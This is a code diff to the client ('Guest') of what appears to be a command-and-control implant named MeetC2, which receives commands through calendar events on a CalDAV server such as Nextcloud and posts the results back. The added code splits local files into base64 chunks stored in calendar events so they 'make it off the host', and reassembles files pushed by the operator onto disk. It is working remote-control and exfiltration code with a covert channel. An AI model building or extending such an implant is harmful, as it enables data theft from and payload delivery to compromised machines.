@@ -2,22 +2,34 @@ package main
 
 import (
 	"context"
+	"crypto/sha256"
 	_ "embed"
 	"encoding/base64"
+	"encoding/hex"
 	"fmt"
 	"log"
 	"net/http"
 	"os"
 	"os/exec"
 	"os/signal"
+	"path"
 	"runtime"
+	"strconv"
 	"strings"
 	"syscall"
 	"time"
 
+	"github.com/emersion/go-ical"
 	"github.com/emersion/go-webdav/caldav"
+	"github.com/google/uuid"
 )
 
+// chunkSize is the amount of raw file data placed into each base64-encoded
+// transfer chunk. CalDAV servers (Nextcloud in particular) routinely reject
+// VEVENTs whose DESCRIPTION grows past a few MB, so uploads/downloads are
+// always split regardless of file size.
+const chunkSize = 700 * 1024
+
 type Guest struct {
 	service       *caldav.Client
 	calendarID    string // This will be the full path to the calendar
@@ -42,11 +54,14 @@ func (bat *basicAuthRoundTripper) RoundTrip(req *http.Request) (*http.Response,
 func main() {
 	log.SetFlags(log.Ltime)
 
-	// The calendar ID is now the full path to the calendar on the server.
-	// Example: "calendars/your_username/personal/"
-	calendarID := "calendars/admin/personal/" // <-- IMPORTANT: Set your calendar path here
+	// --- IMPORTANT: CONFIGURE YOUR CALDAV SERVER DETAILS HERE ---
+	backendURL := "http://127.0.0.1/remote.php/dav/" // Base DAV URL (Nextcloud, Radicale, SOGo, Baïkal, iCloud, Google, ...)
+	username := "admin"                              // Your CalDAV username
+	appPassword := "admin"                           // An app password / token for the account above
+	calendarName := "personal"                       // Display name of the calendar to use
+	// -------------------------------------------------------------
 
-	guest, err := NewGuest(calendarID)
+	guest, err := NewGuest(backendURL, username, appPassword, calendarName)
 	if err != nil {
 		log.Fatalf("Failed to initialize: %v", err)
 	}
@@ -73,13 +88,7 @@ func main() {
 	}
 }
 
-func NewGuest(calendarID string) (*Guest, error) {
-	// --- IMPORTANT: CONFIGURE YOUR NEXTCLOUD DETAILS HERE ---
-	backendURL := "http://127.0.0.1/remote.php/dav/" //  URL
-	username := "admin"                              // Your Nextcloud username
-	appPassword := "admin"                           // An App Password generated in Nextcloud settings
-	// ---------------------------------------------------------
-
+func NewGuest(backendURL, username, appPassword, calendarName string) (*Guest, error) {
 	// Create a custom http.Client with Basic Auth
 	basicAuthTransport := &basicAuthRoundTripper{
 		username: username,
@@ -93,6 +102,11 @@ func NewGuest(calendarID string) (*Guest, error) {
 		return nil, fmt.Errorf("failed to create CalDAV client: %v", err)
 	}
 
+	calendarID, err := discoverCalendarPath(context.Background(), client, calendarName)
+	if err != nil {
+		return nil, fmt.Errorf("failed to discover calendar %q: %v", calendarName, err)
+	}
+
 	hostname, _ := os.Hostname()
 
 	return &Guest{
@@ -103,6 +117,35 @@ func NewGuest(calendarID string) (*Guest, error) {
 	}, nil
 }
 
+// discoverCalendarPath resolves the full path of the calendar named
+// calendarName via RFC 5397 (current-user-principal) and RFC 4791
+// (calendar-home-set) discovery. The caller is expected to cache the
+// returned path rather than re-running discovery on every request.
+func discoverCalendarPath(ctx context.Context, client *caldav.Client, calendarName string) (string, error) {
+	principal, err := client.FindCurrentUserPrincipal(ctx)
+	if err != nil {
+		return "", fmt.Errorf("failed to find current user principal: %v", err)
+	}
+
+	homeSet, err := client.FindCalendarHomeSet(ctx, principal)
+	if err != nil {
+		return "", fmt.Errorf("failed to find calendar home set: %v", err)
+	}
+
+	calendars, err := client.FindCalendars(ctx, homeSet)
+	if err != nil {
+		return "", fmt.Errorf("failed to list calendars: %v", err)
+	}
+
+	for _, cal := range calendars {
+		if cal.Name == calendarName {
+			return cal.Path, nil
+		}
+	}
+
+	return "", fmt.Errorf("no calendar named %q found under %s", calendarName, homeSet)
+}
+
 func (g *Guest) CheckAndExecute() {
 	now := time.Now()
 
@@ -115,7 +158,7 @@ func (g *Guest) CheckAndExecute() {
 			Name: "VCALENDAR",
 			Comps: []caldav.CompFilter{{
 				Name:  "VEVENT",
-				Start: timeMin, 
+				Start: timeMin,
 				End:   timeMax}},
 		},
 	}
@@ -183,6 +226,11 @@ func (g *Guest) CheckAndExecute() {
 			args = strings.Join(cmdParts[1:], " ")
 		}
 
+		// Transfer chunks/manifests are data, not commands - never execute them.
+		if command == "__chunk" {
+			continue
+		}
+
 		output := g.ExecuteCommand(command, args)
 		g.UpdateEventWithOutput(uid, output, eventData.Path)
 	}
@@ -209,13 +257,10 @@ func (g *Guest) ExecuteCommand(command, args string) string {
 		return hostInfo + dir
 
 	case "upload":
-		filepath := strings.TrimSpace(args)
-		data, err := os.ReadFile(filepath)
-		if err != nil {
-			return hostInfo + fmt.Sprintf("Error: %v", err)
-		}
-		encoded := base64.StdEncoding.EncodeToString(data)
-		return hostInfo + fmt.Sprintf("File: %s\n[DATA]\n%s\n[/DATA]", filepath, encoded)
+		return hostInfo + g.uploadFile(strings.TrimSpace(args))
+
+	case "download":
+		return hostInfo + g.downloadFile(strings.TrimSpace(args))
 
 	case "exit":
 		go func() {
@@ -241,6 +286,258 @@ func (g *Guest) ExecuteCommand(command, args string) string {
 	}
 }
 
+// transferManifest describes a chunked file transfer, carried in the
+// description of the final "__chunk <transferID> manifest" VEVENT.
+type transferManifest struct {
+	filename string
+	size     int
+	total    int
+	sha256   string
+}
+
+// uploadFile reads a local file, splits it into base64 chunks and writes
+// each one plus a trailing SHA-256 manifest as a linked VEVENT, so files
+// too large for a single DESCRIPTION field still make it off the host.
+func (g *Guest) uploadFile(filePath string) string {
+	data, err := os.ReadFile(filePath)
+	if err != nil {
+		return fmt.Sprintf("Error: %v", err)
+	}
+
+	transferID := uuid.New().String()
+	sum := sha256.Sum256(data)
+	total := (len(data) + chunkSize - 1) / chunkSize
+	if total == 0 {
+		total = 1
+	}
+
+	for seq := 0; seq < total; seq++ {
+		start := seq * chunkSize
+		end := start + chunkSize
+		if end > len(data) {
+			end = len(data)
+		}
+		encoded := base64.StdEncoding.EncodeToString(data[start:end])
+		if err := g.putTransferEvent(g.hostname, fmt.Sprintf("%s %d/%d", transferID, seq+1, total), encoded); err != nil {
+			return fmt.Sprintf("Error: failed to upload chunk %d/%d: %v", seq+1, total, err)
+		}
+	}
+
+	manifest := fmt.Sprintf("Filename: %s\nSize: %d\nChunks: %d\nSHA256: %x", path.Base(filePath), len(data), total, sum)
+	if err := g.putTransferEvent(g.hostname, transferID+" manifest", manifest); err != nil {
+		return fmt.Sprintf("Error: failed to upload manifest: %v", err)
+	}
+
+	return fmt.Sprintf("File: %s\nTransferID: %s\nSize: %d bytes\nChunks: %d\nSHA256: %x",
+		filePath, transferID, len(data), total, sum)
+}
+
+// downloadFile assembles a transfer the organizer pushed via
+// CreateFileTransfer, streaming chunks to destPath in order and verifying
+// the manifest's SHA-256 before reporting completion.
+func (g *Guest) downloadFile(args string) string {
+	parts := strings.Fields(args)
+	if len(parts) < 2 {
+		return "Error: usage: download <transferID> <destPath>"
+	}
+	transferID, destPath := parts[0], parts[1]
+
+	chunks, manifest, err := g.fetchTransfer(transferID)
+	if err != nil {
+		return fmt.Sprintf("Error: %v", err)
+	}
+
+	out, err := os.Create(destPath)
+	if err != nil {
+		return fmt.Sprintf("Error: failed to create %s: %v", destPath, err)
+	}
+	defer out.Close()
+
+	hasher := sha256.New()
+	for seq := 1; seq <= manifest.total; seq++ {
+		encoded, ok := chunks[seq]
+		if !ok {
+			return fmt.Sprintf("Error: missing chunk %d/%d for transfer %s", seq, manifest.total, transferID)
+		}
+		data, err := base64.StdEncoding.DecodeString(encoded)
+		if err != nil {
+			return fmt.Sprintf("Error: failed to decode chunk %d: %v", seq, err)
+		}
+		if _, err := out.Write(data); err != nil {
+			return fmt.Sprintf("Error: failed to write chunk %d: %v", seq, err)
+		}
+		hasher.Write(data)
+	}
+
+	sum := hex.EncodeToString(hasher.Sum(nil))
+	if sum != manifest.sha256 {
+		out.Close()
+		os.Remove(destPath)
+		return fmt.Sprintf("Error: checksum mismatch for %s (got %s, want %s)", destPath, sum, manifest.sha256)
+	}
+
+	return fmt.Sprintf("File: %s\nTransferID: %s\nSize: %d bytes\nSHA256: %s\nStatus: complete",
+		destPath, transferID, manifest.size, sum)
+}
+
+// fetchTransfer queries the calendar for every chunk/manifest VEVENT
+// belonging to transferID and returns the chunk bodies keyed by sequence
+// number alongside the parsed manifest.
+func (g *Guest) fetchTransfer(transferID string) (map[int]string, *transferManifest, error) {
+	query := &caldav.CalendarQuery{
+		CompFilter: caldav.CompFilter{
+			Name: "VCALENDAR",
+			Comps: []caldav.CompFilter{
+				{
+					Name: "VEVENT",
+					Props: []caldav.PropFilter{
+						{Name: "SUMMARY", TextMatch: &caldav.TextMatch{Text: "__chunk " + transferID}},
+					},
+				},
+			},
+		},
+	}
+
+	events, err := g.service.QueryCalendar(context.Background(), g.calendarID, query)
+	if err != nil {
+		return nil, nil, fmt.Errorf("failed to query transfer chunks: %v", err)
+	}
+
+	chunks := make(map[int]string)
+	var manifest *transferManifest
+
+	for _, eventData := range events {
+		cal := eventData.Data
+		if cal == nil || len(cal.Children) == 0 {
+			continue
+		}
+		vevent := cal.Children[0]
+		summary, err := vevent.Props.Text("SUMMARY")
+		if err != nil {
+			continue
+		}
+		description, _ := vevent.Props.Text("DESCRIPTION")
+
+		id, seq, _, isManifest, ok := parseChunkSummary(summary)
+		if !ok || id != transferID {
+			continue
+		}
+
+		if isManifest {
+			m, err := parseManifest(description)
+			if err != nil {
+				continue
+			}
+			manifest = m
+			continue
+		}
+		chunks[seq] = description
+	}
+
+	if manifest == nil {
+		return nil, nil, fmt.Errorf("manifest not found for transfer %s", transferID)
+	}
+	return chunks, manifest, nil
+}
+
+// putTransferEvent creates a single "__chunk" VEVENT targeted at host
+// carrying suffix ("<seq>/<total>" or "manifest") in its summary and body
+// in its description.
+func (g *Guest) putTransferEvent(host, suffix, body string) error {
+	uid := uuid.New().String()
+	eventPath := path.Join(g.calendarID, uid+".ics")
+
+	start := time.Now()
+	end := start.Add(30 * time.Minute)
+
+	event := ical.NewEvent()
+	event.Name = "VEVENT"
+	event.Props.SetText(ical.PropUID, uid)
+	event.Props.SetDateTime(ical.PropDateTimeStamp, time.Now())
+	event.Props.SetDateTime(ical.PropDateTimeStart, start)
+	event.Props.SetDateTime(ical.PropDateTimeEnd, end)
+	event.Props.SetText(ical.PropSummary, fmt.Sprintf("%s @%s:__chunk %s", g.commandPrefix, host, suffix))
+	event.Props.SetText(ical.PropDescription, body)
+
+	cal := ical.NewCalendar()
+	cal.Props.SetText(ical.PropVersion, "2.0")
+	cal.Props.SetText(ical.PropProductID, "-//MeetC2//Guest//EN")
+	cal.Children = []*ical.Component{event.Component}
+
+	_, err := g.service.PutCalendarObject(context.Background(), eventPath, cal)
+	return err
+}
+
+// parseChunkSummary extracts the transfer ID and sequence info from a
+// "@host:__chunk <transferID> <seq>/<total>" (or "... manifest") summary.
+// ok is false when summary does not describe a chunk/manifest event.
+func parseChunkSummary(summary string) (transferID string, seq, total int, isManifest, ok bool) {
+	commandLine := strings.TrimSpace(strings.TrimPrefix(summary, "Meeting from nobody:"))
+	if !strings.HasPrefix(commandLine, "@") {
+		return "", 0, 0, false, false
+	}
+	parts := strings.SplitN(commandLine, ":", 2)
+	if len(parts) != 2 {
+		return "", 0, 0, false, false
+	}
+	fields := strings.Fields(parts[1])
+	if len(fields) != 3 || fields[0] != "__chunk" {
+		return "", 0, 0, false, false
+	}
+	if fields[2] == "manifest" {
+		return fields[1], 0, 0, true, true
+	}
+	seq, total, err := parseChunkSeq(fields[2])
+	if err != nil {
+		return "", 0, 0, false, false
+	}
+	return fields[1], seq, total, false, true
+}
+
+// parseChunkSeq parses a "<seq>/<total>" chunk position.
+func parseChunkSeq(s string) (seq, total int, err error) {
+	parts := strings.SplitN(s, "/", 2)
+	if len(parts) != 2 {
+		return 0, 0, fmt.Errorf("malformed chunk sequence %q", s)
+	}
+	if seq, err = strconv.Atoi(parts[0]); err != nil {
+		return 0, 0, err
+	}
+	if total, err = strconv.Atoi(parts[1]); err != nil {
+		return 0, 0, err
+	}
+	return seq, total, nil
+}
+
+// parseManifest parses the "Key: value" body of a transfer manifest event.
+func parseManifest(description string) (*transferManifest, error) {
+	m := &transferManifest{}
+	for _, line := range strings.Split(description, "\n") {
+		key, value, ok := strings.Cut(strings.TrimSpace(line), ": ")
+		if !ok {
+			continue
+		}
+		var err error
+		switch key {
+		case "Filename":
+			m.filename = value
+		case "Size":
+			m.size, err = strconv.Atoi(value)
+		case "Chunks":
+			m.total, err = strconv.Atoi(value)
+		case "SHA256":
+			m.sha256 = value
+		}
+		if err != nil {
+			return nil, err
+		}
+	}
+	if m.total == 0 || m.sha256 == "" {
+		return nil, fmt.Errorf("incomplete manifest")
+	}
+	return m, nil
+}
+
 func (g *Guest) UpdateEventWithOutput(eventUID, output, eventPath string) error {
 	// To update an event, we must fetch its current data, modify it, and PUT it back.
 	// We already have the path and can fetch the object directly.